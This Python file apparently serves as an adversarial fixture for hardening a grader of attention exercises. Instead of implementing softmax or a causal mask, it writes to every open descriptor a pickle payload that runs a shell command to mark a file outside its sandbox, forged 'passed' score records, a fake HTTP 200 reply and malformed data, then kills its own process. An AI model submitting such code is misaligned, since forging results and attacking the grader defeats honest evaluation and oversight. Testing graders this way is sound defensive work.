# Writes noise, and what other graders would take for a result, to every descriptor that is open.
# expects: attention.softmax masks.causal attention.memory
# earns: attention.memory
# %%
import contextlib
import json
import os
import pickle
import struct

attention_memory = 4 * 2048 * 2048


class Runs:
    def __reduce__(self):
        return os.system, ("touch {OUTSIDE}/{MARK}-pickle",)


passed = {"status": "passed", "passed": True, "earned": 99, "score": 100, "points": 99, "exercise_id": "attention.softmax"}
noise = [
    pickle.dumps(Runs()),
    json.dumps(passed).encode() + b"\n",
    struct.pack(">I", 0xFFFFFFFF),
    struct.pack(">i", -1) + b"{}",
    struct.pack(">Q", 2**63) + bytes(1000),
    b"HTTP/1.1 200 OK\r\n\r\n" + json.dumps(passed).encode(),
    bytes(range(256)) * 16,
]


def say(words):
    for fd in range(256):
        for word in words:
            with contextlib.suppress(OSError):
                os.write(fd, word)


def softmax(x, dim):
    say(noise)
    return x


def causal_mask(T, S=None):
    say(reversed(noise))
    os.kill(os.getpid(), 9)
